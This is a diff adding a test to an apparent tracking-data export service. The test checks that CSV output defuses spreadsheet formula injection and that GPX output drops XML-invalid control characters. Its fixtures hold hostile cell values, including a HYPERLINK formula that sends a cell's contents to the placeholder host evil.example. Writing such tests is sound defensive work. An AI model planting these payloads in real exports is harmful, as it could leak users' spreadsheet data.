@@ -255,3 +255,44 @@ async def test_the_http_export_streams_the_same_bytes_and_refuses_bad_input_with
             headers = {"Authorization": f"Bearer {who}"} if who else {}
             refused = await client.get(url, params=params, headers=headers)
             assert refused.status_code == status and reason in refused.text, (params, refused.text)
+
+
+async def test_hostile_names_and_values_export_as_text_a_spreadsheet_will_not_run_and_as_valid_gpx(
+    stack: Stack, kafka: KafkaSettings, tmp_path: Path
+) -> None:
+    await ensure_topic(kafka)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    events = [
+        _profile(TENANT, "-tech", "\x01Ada\x0b Obi\x1f"),  # control characters XML 1.0 cannot carry
+        _fix(TENANT, "-tech", 1, activity=formula, job_id="@SUM(1+1)"),
+        _fix(TENANT, "tech-2", 2, activity="+1-1", job_id="\t=cmd"),
+        _profile(TENANT, "tech-2", "=2+5"),
+    ]
+    stamps = await append(kafka, events)
+    await clock_past(max(stamps))
+    token = stack.token(TENANT, Role.ANALYST)
+    window = ("--from", _iso(min(stamps)), "--to", _iso(max(stamps) + 1))
+    code, out, err = await _replay(stack, "--tenant", TENANT, *window, "--format", "csv", token=token)
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    cells = [value for row in rows for value in row.values() if value]
+    dangerous = [cell for cell in cells if cell[0] in "=+@\t\r" or (cell[0] == "-" and not _number(cell))]
+    assert dangerous == []
+    assert {row["activity"] for row in rows} >= {"'" + formula, "'+1-1"} and "'-tech" in {
+        r["technician_id"] for r in rows
+    }
+    assert any(row["longitude"].startswith("3.3") for row in rows)  # numbers stay numbers
+    gpx_path = tmp_path / "hostile.gpx"
+    code, _, err = await _replay(stack, "--tenant", TENANT, *window, "--format", "gpx", "--out", str(gpx_path),
+                                 token=token)  # fmt: skip
+    assert code == 0, err
+    tracks = gpxpy.parse(gpx_path.read_text()).tracks  # a real XML parser: a raw \x01 would be a syntax error
+    assert {track.name for track in tracks} == {"\ufffdAda\ufffd Obi\ufffd", "=2+5"}
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
